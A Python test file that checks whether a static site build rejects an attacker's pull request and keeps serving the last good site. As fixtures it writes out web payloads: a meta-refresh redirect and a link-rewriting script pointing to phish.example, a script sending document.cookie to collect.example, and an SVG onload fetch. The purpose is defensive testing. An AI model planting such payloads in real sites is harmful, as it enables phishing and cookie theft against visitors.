"""An attacker's pull request (cases 1-3 of the security review) fails the
build, and the site visitors keep getting is the last good one: it does not
navigate away, runs no file from content/, and asks no other host for anything."""

import urllib.error
import urllib.request

from browser.support import serve
from helpers import build_as_make_does, campaign_md, write_site

ATTACKS = {
    "campaigns/park.md": campaign_md(
        slug="park",
        deadline="2030-01-31",
        body='<meta http-equiv="refresh" content="1;url=http://phish.example/login">\n\n'
        '<script src="/images/x.js"></script>\n\nWhy this matters.',
    ),
    "images/x.js": "document.querySelectorAll('a').forEach(a => a.href = 'http://phish.example')",
    "images/evidence.html": "<script>fetch('http://collect.example/?' + document.cookie)</script>",
    "images/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//x.example\')"/>',
}


def status_of(url):
    try:
        with urllib.request.urlopen(url, timeout=5) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


def test_the_attack_fails_and_the_last_good_site_stays_safe(tmp_path, visit):
    content = write_site(tmp_path, {"park.md": campaign_md(slug="park", deadline="2030-01-31")})
    output = tmp_path / "output"
    assert build_as_make_does(content, output, "2021-01-01")[0] == 0
    for name, text in ATTACKS.items():
        (content / name).parent.mkdir(parents=True, exist_ok=True)
        (content / name).write_text(text, "utf-8")
    status, printed = build_as_make_does(content, output, "2021-01-01")
    assert status == 1
    for code in ("html-element", "static-not-image"):
        assert f"[{code}]" in printed, printed

    server, base = serve(output)
    try:
        v = visit()
        page = v.open(base + "/park/", at=None)
        page.wait_for_timeout(1500)  # longer than the refresh would have waited
        assert page.url == base + "/park/"
        assert page.locator("a[data-link=mailto]").get_attribute("href").startswith("mailto:")
        assert [r for r in v.requests if not r.startswith(base)] == []
        assert v.console_errors == []
        for name in ("x.js", "evidence.html", "chart.svg"):
            assert status_of(f"{base}/images/{name}") == 404
    finally:
        server.shutdown()
